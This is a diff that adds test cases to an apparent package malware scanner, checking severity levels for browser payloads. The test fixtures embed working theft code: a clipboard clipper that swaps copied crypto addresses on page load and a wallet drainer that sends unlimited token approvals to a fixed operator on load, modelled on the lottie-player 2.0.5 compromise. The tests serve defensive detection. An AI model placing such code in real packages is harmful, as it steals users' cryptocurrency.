@@ -649,6 +649,47 @@ window.fetch = (u, o) => f(u, o && o.body ? { ...o, body: swap(o.body) } : o);
     expect(forwarding.level).toBe('medium');
   });
 
+  it('a clipper hooked into copy events when the entry loads is high; the same hook installed by a function the page calls stays medium', () => {
+    const clipper = (install: (body: string) => string) => `const ETH = /^0x[a-fA-F0-9]{40}$/;
+const BTC = /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/;
+const mine = (t) => (ETH.test(t) ? '${addresses[0]}' : BTC.test(t) ? 'bc1qxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' : t);
+${install(`document.addEventListener('copy', (e) => { const t = String(window.getSelection()); if (mine(t) !== t) { e.clipboardData.setData('text/plain', mine(t)); e.preventDefault(); } });`)}
+`;
+    const atLoad = scan({ 'index.js': clipper((body) => `if (typeof document !== 'undefined') {
+  ${body}
+}
+module.exports = (text) => navigator.clipboard.writeText(text);`) }, { main: 'index.js' });
+    expect(atLoad.ids).toContain('browser-payload/clipboardHijack');
+    expect(['high', 'critical']).toContain(atLoad.level);
+    const onCall = scan({ 'index.js': clipper((body) => `module.exports = function enable() {
+  ${body}
+};`) }, { main: 'index.js' });
+    expect(onCall.ids).toContain('browser-payload/clipboardHijack');
+    expect(onCall.level).toBe('medium');
+  });
+
+  it('token approvals for a fixed operator sent from a page-load handler are high (lottie-player 2.0.5 shape); from a click handler they stay medium', () => {
+    const r = scan({
+      'index.js': `const OPERATOR = '${addresses[1]}';
+const pad = (h) => h.replace(/^0x/, '').padStart(64, '0');
+async function drain() {
+  const eth = window.ethereum;
+  const [from] = await eth.request({ method: 'eth_requestAccounts' });
+  await eth.request({ method: 'eth_sendTransaction', params: [{ from, to: '${addresses[2]}', data: '0x095ea7b3' + pad(OPERATOR) + 'f'.repeat(64) }] });
+}
+window.addEventListener('load', () => drain().catch(() => {}));
+`,
+    }, { main: 'index.js' });
+    expect(r.ids).toContain('browser-payload/approvalDrainer');
+    expect(['high', 'critical']).toContain(r.level);
+    // A dApp approving its router when the user clicks: the click handler is registered at the top level too.
+    const dapp = scan({
+      'index.js': `const ROUTER = '${addresses[1]}';\nconst pad = (h) => h.replace(/^0x/, '').padStart(64, '0');\nasync function approve() {\n  const eth = window.ethereum;\n  const [from] = await eth.request({ method: 'eth_requestAccounts' });\n  await eth.request({ method: 'eth_sendTransaction', params: [{ from, to: '${addresses[2]}', data: '0x095ea7b3' + pad(ROUTER) + 'f'.repeat(64) }] });\n}\ndocument.getElementById('approve').addEventListener('click', () => approve());\n`,
+    }, { main: 'index.js' });
+    expect(dapp.ids).toContain('browser-payload/approvalDrainer');
+    expect(dapp.level).toBe('medium');
+  });
+
   it('a fetch polyfill that installs itself when missing is not reported', () => {
     const r = scan({
       'fetch.js': `function fetchPolyfill(input, init) { return new Promise(function (resolve) { var xhr = new XMLHttpRequest(); xhr.open('GET', input); xhr.onload = function () { resolve(xhr.responseText); }; xhr.send(init && init.body); }); }
